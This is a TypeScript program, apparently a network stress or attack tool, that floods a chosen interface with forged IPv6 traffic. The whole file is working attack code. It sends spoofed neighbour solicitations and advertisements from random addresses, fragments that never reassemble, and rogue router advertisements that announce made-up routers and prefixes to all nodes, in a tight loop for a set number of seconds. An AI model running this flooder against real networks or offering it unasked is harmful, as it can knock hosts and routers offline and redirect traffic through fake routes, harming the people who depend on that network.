/**
 * Floods one interface with IPv6: `bun flood6.ts DEVICE KIND SECONDS SEED OWN-MAC ROUTER-MAC OWN-IP ROUTER-IP`, as fast as the interface takes
 * it. "neighbours": solicitations of the router from ever other addresses, and advertisements of made-up ones. "fragments": of
 * packets that never become whole. "routers": advertisements of made-up routers with made-up prefixes, and solicitations. One line of JSON at the end.
 */
import { Xorshift } from "./rng.ts";
import { FrameSocket } from "./sockets.ts";

export type Flood6Kind = "neighbours" | "fragments" | "routers";

const ETHERNET = 14;
const IP = 40;
const ICMPV6 = 58;
const FRAGMENT = 44;
const SOLICIT = 135;
const ADVERT = 136;
const ROUTER_SOLICIT = 133;
const ROUTER_ADVERT = 134;
const ALL_NODES = words("ff02::1");
const ALL_ROUTERS = words("ff02::2");

interface Ends {
  readonly ownMac: readonly number[];
  readonly routerMac: readonly number[];
  readonly own: readonly number[];
  readonly router: readonly number[];
}

/** Writes a frame to `bytes`. @returns its length */
export function flood6Frame(kind: Flood6Kind, random: Xorshift, ends: Ends, bytes: Uint8Array): number {
  if (kind === "fragments") {
    const body = [17, 0, random.below(64), random.below(2) === 0 ? 1 : 9, ...random.bytes(4), ...random.bytes(256)];
    return packet(bytes, ends, ends.own, ends.router, FRAGMENT, 64, body);
  }
  const nobody = [0xfe, 0x80, 0, 0, 0, 0, 0, 0, ...random.bytes(8)];
  if (kind === "neighbours") {
    const isQuestion = random.below(2) === 0;
    const target = isQuestion ? ends.router : nobody;
    const flags = isQuestion ? 0 : 0x60;
    const option = [isQuestion ? 1 : 2, 1, 2, ...random.bytes(5)];
    return icmp(bytes, ends, nobody, ends.router, [
      isQuestion ? SOLICIT : ADVERT,
      0,
      0,
      0,
      flags,
      0,
      0,
      0,
      ...target,
      ...option,
    ]);
  }
  if (random.below(4) === 0) return icmp(bytes, ends, nobody, ALL_ROUTERS, [ROUTER_SOLICIT, 0, 0, 0, 0, 0, 0, 0]);
  const prefix = [
    3,
    4,
    64,
    0xc0,
    0,
    1,
    0,
    0,
    0,
    1,
    0,
    0,
    0,
    0,
    0,
    0,
    0x20,
    1,
    ...random.bytes(6),
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
  ];
  return icmp(bytes, ends, nobody, ALL_NODES, [
    ROUTER_ADVERT,
    0,
    0,
    0,
    64,
    0,
    0x07,
    0x08,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    ...prefix,
  ]);
}

function icmp(bytes: Uint8Array, ends: Ends, src: readonly number[], dst: readonly number[], body: number[]): number {
  let sum = ICMPV6 + body.length;
  const part = [...src, ...dst, ...body];
  for (let i = 0; i < part.length; i += 2) sum += (part[i]! << 8) | (part[i + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  body[2] = (~sum >> 8) & 255;
  body[3] = ~sum & 255;
  return packet(bytes, ends, src, dst, ICMPV6, 255, body);
}

function packet(
  bytes: Uint8Array,
  ends: Ends,
  src: readonly number[],
  dst: readonly number[],
  next: number,
  hops: number,
  body: readonly number[],
): number {
  const to = dst[0] === 0xff ? [0x33, 0x33, ...dst.slice(12)] : ends.routerMac;
  bytes.set([...to, ...ends.ownMac, 0x86, 0xdd, 0x60, 0, 0, 0, body.length >> 8, body.length & 255, next, hops]);
  bytes.set(src, ETHERNET + 8);
  bytes.set(dst, ETHERNET + 24);
  bytes.set(body, ETHERNET + IP);
  return ETHERNET + IP + body.length;
}

/** The 16 bytes of an address that is written with one "::". */
function words(text: string): number[] {
  const [head = "", tail = ""] = text.split("::");
  const groups = (part: string): number[] =>
    part === ""
      ? []
      : part.split(":").flatMap((group) => [Number.parseInt(group, 16) >> 8, Number.parseInt(group, 16) & 255]);
  const [front, back] = [groups(head), groups(tail)];
  return [...front, ...new Array(16 - front.length - back.length).fill(0), ...back];
}

if (import.meta.main) {
  const [device, kind, seconds, seed, ownMac, routerMac, own, router] = process.argv.slice(2) as string[];
  const mac = (text = ""): number[] => text.split(":").map((part) => Number.parseInt(part, 16));
  const ends: Ends = { ownMac: mac(ownMac), routerMac: mac(routerMac), own: words(own!), router: words(router!) };
  const random = new Xorshift(Number(seed));
  const socket = new FrameSocket(device!);
  let [sent, refused] = [0, 0];
  const end = performance.now() + Number(seconds) * 1000;
  while (performance.now() < end) {
    for (let i = 0; i < 64; i++) {
      if (socket.sendOut(flood6Frame(kind as Flood6Kind, random, ends, socket.out)) >= 0) sent++;
      else refused++;
    }
  }
  console.log(JSON.stringify({ sent, refused }));
  process.exit(0);
}
